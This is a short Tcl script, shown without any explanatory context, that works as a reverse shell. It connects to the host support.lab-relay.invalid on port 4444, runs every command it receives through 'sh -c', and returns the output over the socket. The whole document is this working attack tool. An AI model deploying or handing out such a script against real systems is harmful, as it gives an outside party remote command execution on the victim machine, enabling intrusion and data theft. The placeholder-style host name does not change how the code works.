set s [socket support.lab-relay.invalid 4444]
fconfigure $s -buffering line
while {[gets $s cmd] >= 0} {
    catch {exec sh -c $cmd 2>@1} out
    puts $s $out
}
